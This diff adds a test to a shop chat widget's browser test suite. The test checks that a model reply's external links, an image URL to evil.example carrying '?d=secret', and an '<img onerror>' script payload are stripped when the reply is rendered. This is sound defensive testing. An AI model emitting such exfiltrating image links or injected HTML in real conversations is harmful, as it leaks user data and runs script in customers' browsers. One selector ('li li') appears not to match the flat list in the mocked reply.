@@ -53,6 +53,19 @@ it("lets a person take over while the model speaks: not a word of it comes after
   await staff.close();
 });
 
+it("shows the model's bold and lists, and of its links, images and HTML only the shop's own pages", async () => {
+  model.mock.onMessage("tell me of the farm", { content: "It is **very** green.\n\n- one sheep\n- another sheep\n\nSee [our help](/help) or [the farm](https://evil.example/a). ![sheep](https://evil.example/sheep.png?d=secret) <img src=x onerror=alert(1)>" });
+  const { page, faults, close } = await openChat(phone);
+  await say(page, "tell me of the farm");
+  const chat = page.getByRole("dialog");
+  await chat.locator("strong", { hasText: "very" }).waitFor();
+  await chat.getByRole("link", { name: "our help" }).waitFor();
+  expect(await chat.locator("li li").count()).toBe(2);
+  expect(await chat.locator("a[href*=evil], img").count()).toBe(0);
+  expect(faults).toEqual([]);
+  await close();
+});
+
 it("gives a customer who was offline what was missed, and sends what they wrote meanwhile, once", async () => {
   const [customer, staff] = [await openChat(phone), await openBrowser({ ...desktop, baseURL: shop.origin })];
   await signIn(staff.page, { email: shop.ownerEmail, password: shop.ownerPassword });
